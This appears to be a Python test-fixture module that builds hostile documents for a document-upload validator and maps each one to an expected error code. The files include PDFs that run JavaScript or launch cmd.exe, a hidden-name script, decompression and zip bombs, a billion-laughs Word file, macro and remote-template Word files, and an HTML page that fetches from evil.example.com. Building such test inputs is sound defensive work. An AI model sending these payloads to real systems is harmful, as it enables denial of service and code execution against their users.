"""Files that no honest program wrote, made on the spot, with the code of the error that each gets."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import lru_cache

import docx
import pypdf
from fpdf import FPDF

MEGABYTE = 1024 * 1024


def pdf(text: str = "Un documento corriente de una página.", pages: int = 1) -> bytes:
    """Return a harmless PDF."""
    paper = FPDF()
    paper.set_font("Helvetica", size=12)
    for _ in range(pages):
        paper.add_page()
        paper.multi_cell(0, 6, text)
    return bytes(paper.output())


def word(text: str = "Un documento corriente de Word.") -> bytes:
    """Return a harmless Word document."""
    document = docx.Document()
    document.add_paragraph(text)
    written = io.BytesIO()
    document.save(written)
    return written.getvalue()


def with_parts(archive: bytes, parts: Mapping[str, bytes]) -> bytes:
    """Return a ZIP archive with parts added or put in the place of others."""
    result = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(archive)) as old,
        zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return result.getvalue()


def pdf_of_objects(*objects: bytes) -> bytes:
    """Return a PDF of numbered objects; the first is the catalogue."""
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)


def encrypted_pdf() -> bytes:
    """Return a PDF with a password."""
    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(pdf())))
    writer.encrypt("secreto", algorithm="AES-256")
    written = io.BytesIO()
    writer.write(written)
    return written.getvalue()


def pdf_with_script() -> bytes:
    """Return a PDF that runs a program when it is opened."""
    return pdf_of_objects(
        b"<</Type/Catalog/Pages 2 0 R/Names<</JavaScript<</Names[(a) 4 0 R]>>>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        b"<</S/JavaScript/JS(app.alert\\('hola'\\))>>",
    )


def pdf_with_hidden_script() -> bytes:
    """Return a PDF whose program stands in a packed stream of objects, under a name written with numbers."""
    objects = zlib.compress(b"9 0 << /S /#4aavaScript /#4a#53 (app.alert(1)) >>")
    head = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>" % len(objects)
    return pdf_of_objects(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 9 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        head + b"\nstream\n" + objects + b"\nendstream",
    )


def pdf_that_launches() -> bytes:
    """Return a PDF that starts a program of the machine."""
    return pdf_of_objects(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(cmd.exe)>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
    )


def pdf_bomb() -> bytes:
    """Return a small PDF whose page unpacks to gigabytes: zeros packed three times over."""
    content = b"0 " * (32 * MEGABYTE)
    once = zlib.compress(content, 9)
    many = zlib.compress(once * 400, 9)
    head = b"<</Filter[/FlateDecode/FlateDecode]/Length %d>>" % len(many)
    return pdf_of_objects(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents[%s]>>" % b" ".join([b"4 0 R"] * 2000),
        head + b"\nstream\n" + many + b"\nendstream",
    )


def many_pages(count: int = 10_000) -> bytes:
    """Return a PDF of very many empty pages."""
    kids = b" ".join([b"3 0 R"] * count)
    return pdf_of_objects(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
    )


def word_with_macros() -> bytes:
    """Return a Word document with macros under a harmless name."""
    return with_parts(word(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})


def word_with_remote_template() -> bytes:
    """Return a Word document that fetches a template from elsewhere when Word opens it."""
    relations = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="https://evil.example.com/x.dotm" TargetMode="External"/></Relationships>'
    )
    return with_parts(word(), {"word/_rels/settings.xml.rels": relations})


@lru_cache
def zip_bomb() -> bytes:
    """Return a Word document with a part of 400 MB of nothing."""
    return with_parts(word(), {"word/media/image1.png": bytes(400 * MEGABYTE)})


def laughing_word() -> bytes:
    """Return a Word document whose text doubles with each entity."""
    entities = b"".join(b'<!ENTITY a%d "&a%d;&a%d;">' % (n, n - 1, n - 1) for n in range(1, 40))
    body = (
        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a0 "ja">' + entities + b"]>"
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
        b"&a39;</w:t></w:r></w:p></w:body></w:document>"
    )
    return with_parts(word(), {"word/document.xml": body})


def encrypted_zip_entry() -> bytes:
    """Return a Word document whose parts are marked as locked."""
    content = bytearray(word())
    at = 0
    while (at := content.find(b"PK\x01\x02", at)) >= 0:
        content[at + 8] |= 1
        at += 4
    return bytes(content)


HOSTILE: Mapping[str, tuple[str, Callable[[], bytes], str]] = {
    "empty": ("a.pdf", lambda: b"", "document_empty"),
    "only spaces": ("a.txt", lambda: b" \n\n ", "document_empty"),
    "program called pdf": ("a.pdf", lambda: b"MZ\x90\x00" + bytes(500), "document_wrong_extension"),
    "word called pdf": ("a.pdf", word, "document_wrong_extension"),
    "pdf called word": ("a.docx", pdf, "document_wrong_extension"),
    "pdf called text": ("a.txt", pdf, "document_wrong_extension"),
    "picture called markdown": ("a.md", lambda: b"\x89PNG\r\n\x1a\n" + bytes(50), "document_wrong_extension"),
    "archive called word": (
        "a.docx",
        lambda: with_parts(b"PK\x05\x06" + bytes(18), {"x.txt": b"x", "[Content_Types].xml": b"<Types/>"}),
        "document_wrong_extension",
    ),
    "spreadsheet": ("a.xlsx", word, "document_kind"),
    "program": ("a.exe", lambda: b"MZ\x90\x00", "document_kind"),
    "encrypted pdf": ("a.pdf", encrypted_pdf, "document_encrypted"),
    "locked archive": ("a.docx", encrypted_zip_entry, "document_encrypted"),
    "truncated pdf": ("a.pdf", lambda: pdf(pages=5)[:-700], "document_damaged"),
    "truncated word": ("a.docx", lambda: word()[:-700], "document_damaged"),
    "pdf of noise": ("a.pdf", lambda: b"%PDF-1.7\n" + b"\xff\x00" * 3000 + b"%%EOF", "document_damaged"),
    "word with entities": ("a.docx", laughing_word, "document_damaged"),
    "pdf with a script": ("a.pdf", pdf_with_script, "document_script"),
    "pdf with a hidden script": ("a.pdf", pdf_with_hidden_script, "document_script"),
    "pdf that launches": ("a.pdf", pdf_that_launches, "document_script"),
    "page that is a script": (
        "a.html",
        lambda: b"<html><body>Hola<script>fetch('https://evil.example.com')</script></body></html>",
        "document_script",
    ),
    "macros": ("a.docx", word_with_macros, "document_macros"),
    "macros by name": ("a.docm", word, "document_macros"),
    "embedded object": (
        "a.docx",
        lambda: with_parts(word(), {"word/embeddings/oleObject1.bin": b"x"}),
        "document_embedded",
    ),
    "remote template": ("a.docx", word_with_remote_template, "document_embedded"),
    "zip bomb": ("a.docx", zip_bomb, "document_expands"),
    "10,000 pages": ("a.pdf", many_pages, "document_too_many_pages"),
    "large": ("a.txt", lambda: b"palabra " * (3 * MEGABYTE), "document_too_large"),
}
